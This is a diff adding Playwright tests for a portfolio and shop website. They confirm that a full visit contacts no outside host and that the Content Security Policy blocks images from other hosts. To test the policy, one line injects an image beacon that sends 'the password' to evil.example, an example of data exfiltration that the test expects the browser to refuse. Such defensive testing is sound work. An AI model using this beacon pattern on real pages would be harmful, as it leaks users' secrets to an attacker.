@@ -1,0 +1,58 @@
+import { expect, test } from './visitor.ts';
+
+/** What the policy says about pictures: whatever content names, the browser asks nobody else. */
+const IMG_SRC = /img-src 'self' data: blob:(;|$)/;
+
+test('a whole visit asks no other host for anything: every section, project and dialog', async ({
+  page,
+  visitor,
+  externalRequests,
+}) => {
+  await page.goto(visitor.site);
+  await page.getByRole('button', { name: 'English' }).click();
+  await visitor.section('photos').click();
+  const covers = page.locator('.covers').getByRole('button').or(page.locator('.covers').getByRole('link'));
+  const projects = await covers.count();
+  expect(projects).toBeGreaterThan(3);
+  for (let n = 0; n < projects; n += 1) {
+    await covers.nth(n).click();
+    await page.getByRole('main').locator('.photo').filter({ visible: true }).last().scrollIntoViewIfNeeded();
+    if (n < projects - 1) await visitor.back().click();
+  }
+  await page.getByRole('main').locator('.photo').filter({ visible: true }).first().click();
+  await expect(page.getByRole('dialog').getByRole('img')).toBeVisible();
+  await visitor.button(visitor.words.buy).click();
+  await visitor.button(visitor.words.close).click();
+  await visitor.openCart();
+  await page.keyboard.press('Escape');
+  for (const section of ['videos', 'music'] as const) {
+    await visitor.section(section).click();
+    await page
+      .getByRole('main')
+      .getByRole('listitem')
+      .filter({ visible: true })
+      .last()
+      .scrollIntoViewIfNeeded();
+  }
+  await visitor.languageButton().click();
+  await page.waitForLoadState('networkidle');
+  expect(externalRequests).toEqual([]);
+});
+
+test.describe('pictures of other hosts', () => {
+  test.use({ allowConsole: [/violates the following Content Security Policy directive: "img-src 'self'/] });
+
+  test('are refused by the browser on every page', async ({ page, visitor }) => {
+    for (const path of ['/', '/success', '/admin/']) {
+      const answer = await page.goto(visitor.site + path);
+      expect(answer?.headers()['content-security-policy'], path).toMatch(IMG_SRC);
+      const refused = page.waitForEvent('requestfailed', (request) =>
+        request.url().startsWith('https://evil.example/'),
+      );
+      await page.evaluate(() => {
+        new Image().src = `https://evil.example/?data=${encodeURIComponent('the password')}`;
+      });
+      expect((await refused).failure()?.errorText, path).toMatch(/csp/i);
+    }
+  });
+});
